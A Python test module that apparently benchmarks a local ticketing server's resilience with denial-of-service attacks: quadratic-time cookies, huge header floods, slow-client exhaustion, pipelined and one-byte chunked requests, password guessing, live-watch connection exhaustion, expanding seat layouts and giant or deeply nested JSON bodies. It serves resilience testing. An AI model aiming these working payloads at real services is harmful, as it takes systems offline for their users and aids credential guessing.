"""The attacks by name; each returns a description of its outcome."""

import json
import socket
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from functools import partial
from typing import Any

import httpx

from bench.strangers.sockets import ANSWER_S, MIB, connect, flood, format_counts, slow, status_of
from bench.support.shop import open_sale, require_success

V1 = "/api/v1"
WATCHED = 300
WATCHING_ADDRESSES = 5
GREETING_BYTES = 4_096
KIB = 1_024

Attack = tuple[str, Callable[[], str]]


@dataclass(frozen=True, slots=True, kw_only=True)
class Victim:
    """The attacked installation: port, an organizer's token and venue, performances, and an account."""

    port: int
    token: str
    venue: str
    performances: Sequence[str]
    email: str
    password: str


def attacks(victim: Victim) -> list[Attack]:
    """Return every attack in order of execution."""
    return [
        *cookies(victim),
        *connections(victim),
        *logins(victim),
        *watchers(victim),
        *layouts(victim),
        *bodies(victim),
    ]


def cookies(victim: Victim) -> list[Attack]:
    """A cookie that takes quadratic time to unquote."""
    return [
        *((f"1 cookie of {kib} KB", partial(cookie, victim, kib, 1)) for kib in (10, 40, 80, 100)),
        ("1 cookie of 15 KB, 100 times", partial(cookie, victim, 15, 100)),
    ]


def cookie(victim: Victim, kib: int, times: int) -> str:
    """Log out with a cookie of backslashes."""
    value = 'seatledger_refresh="' + r"\a" * (kib * 500) + '"'
    request = f"POST {V1}/auth/logout HTTP/1.1\r\nHost: x\r\nCookie: {value}\r\nContent-Length: 0\r\n\r\n".encode()
    return format_counts(status_of(victim.port, request) for _ in range(times))


def connections(victim: Victim) -> list[Attack]:
    """Endless heads, and slow clients."""
    port, header = victim.port, b"GET / HTTP/1.1\r\nX: "
    body = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Length: 60000\r\n\r\n" + b"a" * 50_000
    return [
        ("2 one header of 64 MiB", partial(flood, port, header, 64 * MIB)),
        ("2 one header of 160 MiB", partial(flood, port, header, 160 * MIB)),
        ("2 an address of 200 MiB", partial(flood, port, b"GET /", 200 * MIB)),
        ("2 400 connected and silent", partial(slow, port, 400, b"", b"", 15)),
        ("2 600 with a header byte a second", partial(slow, port, 600, header, b"a", 15)),
        ("2 600 with 50 of 60 KB of a body", partial(slow, port, 600, body, b"", 15)),
        ("2 10,000 requests pipelined", partial(send_pipelined, port)),
        ("2 a body in chunks of one byte", partial(send_single_bytes, port)),
    ]


def send_pipelined(port: int) -> str:
    """Send many pipelined requests."""
    return status_of(port, b"GET /livez HTTP/1.1\r\nHost: x\r\n\r\n" * 10_000)


def send_single_bytes(port: int) -> str:
    """Send a body in chunks of one byte."""
    head = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
    return status_of(port, head + b"1\r\na\r\n" * 60_000 + b"0\r\n\r\n")


def logins(victim: Victim) -> list[Attack]:
    """Password guesses from an address shared by all clients behind a proxy."""
    return [
        ("3 10 wrong guesses at an account", partial(guess_password, victim, victim.email, 10)),
        ("3 its owner", partial(log_in, victim)),
        ("3 200 wrong guesses at nobody", partial(guess_password, victim, "nobody@example.com", 200)),
        ("3 another account's owner", partial(log_in, victim)),
        ("3 a new customer", partial(register, victim)),
    ]


def guess_password(victim: Victim, email: str, times: int) -> str:
    """Guess a password so many times from twenty connections."""
    wrong = post_request("/auth/login", {"email": email, "password": "wrong password"})
    with ThreadPoolExecutor(min(times, 20)) as pool:
        return format_counts(pool.map(lambda _: status_of(victim.port, wrong), range(times)))


def log_in(victim: Victim) -> str:
    """Log in with the right password."""
    return status_of(victim.port, post_request("/auth/login", {"email": victim.email, "password": victim.password}))


def register(victim: Victim) -> str:
    """Register."""
    person = {"email": "new@example.com", "password": "correct horse battery", "name": "New"}
    return status_of(victim.port, post_request("/auth/register", person))


def watchers(victim: Victim) -> list[Attack]:
    """Many seat maps watched at once, and one client that exceeds its limit of watched maps."""
    return [
        (f"5 {WATCHED} performances watched at once", partial(watch_many_performances, victim, WATCHING_ADDRESSES)),
        ("5 150 watchers of one client", partial(watch_from_one_client, victim)),
    ]


def watch_many_performances(victim: Victim, addresses: int) -> str:
    """Watch every performance but the last; then request and watch the last one."""
    *many, last = victim.performances
    opened = [watch(victim, name, f"127.0.1.{number % addresses + 1}") for number, name in enumerate(many)]
    served = sum(began(raw) for raw in opened)
    seats = status_of(victim.port, get_request(f"/performances/{last}/seats"), "127.0.2.1")
    live = watch(victim, last, "127.0.2.1")
    told = "200" if began(live) else "refused"
    for raw in (*opened, live):
        raw.close()
    return f"{served} of {len(many)} served; another's /seats {seats}, /live {told}"


def watch_from_one_client(victim: Victim) -> str:
    """Exceed one client's limit of watched maps; then watch from another client."""
    name = victim.performances[0]
    opened = [watch(victim, name, "127.0.3.1") for _ in range(150)]
    served = sum(began(raw) for raw in opened)
    another = watch(victim, name, "127.0.3.2")
    told = "200" if began(another) else "refused"
    for raw in (*opened, another):
        raw.close()
    return f"{served} of 150 served; another client's {told}"


def watch(victim: Victim, performance: str, address: str) -> socket.socket:
    """Return the request that watches a performance."""
    raw = connect(victim.port, address)
    raw.sendall(get_request(f"/performances/{performance}/live"))
    return raw


def began(raw: socket.socket) -> bool:
    """Return whether a response starts with a successful status."""
    try:
        return raw.recv(GREETING_BYTES).startswith(b"HTTP/1.1 200 ")
    except OSError:
        return False


def layouts(victim: Victim) -> list[Attack]:
    """Small documents that expand to many places."""
    grid = [{"name": f"{n}", "category": "c", "rows": 100, "seats_per_row": 100} for n in range(10)]
    return [
        *(
            (f"6 {areas} areas of 100,000", partial(publish_layout, victim, standing_layout_request(areas)))
            for areas in (10, 40, 100, 1_000)
        ),
        ("6 two areas of 100,000", partial(publish_layout, victim, standing_layout_request(2))),
        ("6 a grid of 100,000 seats", partial(publish_layout, victim, layout_request({"sections": grid}, "grid"))),
        ("6 a performance of 100,000 seats", partial(open_largest_layout, victim)),
    ]


def open_largest_layout(victim: Victim) -> str:
    """Put a performance of the latest layout on sale, and request its seats and its layout."""
    headers = {"Authorization": f"Bearer {victim.token}"}
    with httpx.Client(base_url=f"http://127.0.0.1:{victim.port}{V1}", headers=headers, timeout=ANSWER_S) as http:
        venue = require_success(http.get(f"/venues/{victim.venue}"))
        show = {"organizer_id": venue["organizer_id"], "venue_id": victim.venue, "title": "Largest"}
        event = require_success(http.post("/events", json=show))["event_id"]
        require_success(http.post(f"/events/{event}/publish"))
        performance = open_sale(http, event, venue["layouts"][-1]["layout_id"], category="c")
        sizes = [len(http.get(f"/performances/{performance}/{part}").content) for part in ("seats", "layout")]
    return f"{sizes[0]} bytes of seats, {sizes[1] // KIB} KiB of drawing"


def standing_layout_request(areas: int) -> bytes:
    """Return a layout of standing areas."""
    listed = [{"id": f"a{n}", "label": f"a{n}", "category": "c", "capacity": 100_000} for n in range(areas)]
    document = {"format": "seatledger-layout-1", "categories": [{"key": "c", "label": "c"}], "sections": []}
    return layout_request(document | {"areas": listed}, "seatledger")


def layout_request(document: dict[str, Any], format_name: str) -> bytes:
    """Return a request's body."""
    return json.dumps({"name": "x", "format": format_name, "document": document}).encode()


def bodies(victim: Victim) -> list[Attack]:
    """Large bodies without content."""
    numbers, objects = b"[" + b"1," * (15 * MIB) + b"1]", b"[" + b"{}," * (10 * MIB) + b"{}]"
    keys = b"{" + b",".join(b'"%d":1' % number for number in range(2_400_000)) + b"}"
    nested = b"[" * (12 * MIB) + b"]" * (12 * MIB)
    return [
        ("12 30 MiB of numbers", partial(publish_layout, victim, numbers)),
        ("12 30 MiB of objects", partial(publish_layout, victim, objects)),
        ("12 2.4 million keys", partial(publish_layout, victim, keys)),
        ("12 24 MiB nested", partial(publish_layout, victim, nested)),
        ("12 four of 30 MiB at once", partial(at_once, victim, objects, 4)),
    ]


def at_once(victim: Victim, body: bytes, times: int) -> str:
    """Publish a layout from several connections concurrently."""
    with ThreadPoolExecutor(times) as pool:
        return format_counts(pool.map(lambda _: publish_layout(victim, body), range(times)))


def publish_layout(victim: Victim, body: bytes) -> str:
    """Publish a layout."""
    head = f"POST {V1}/venues/{victim.venue}/layouts HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    head += f"Authorization: Bearer {victim.token}\r\nContent-Length: {len(body)}\r\n\r\n"
    return status_of(victim.port, head.encode() + body)


def post_request(path: str, body: dict[str, Any]) -> bytes:
    """Return a request with a JSON body."""
    content = json.dumps(body).encode()
    head = f"POST {V1}{path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    return f"{head}Content-Length: {len(content)}\r\n\r\n".encode() + content


def get_request(path: str) -> bytes:
    """Return a GET request."""
    return f"GET {V1}{path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
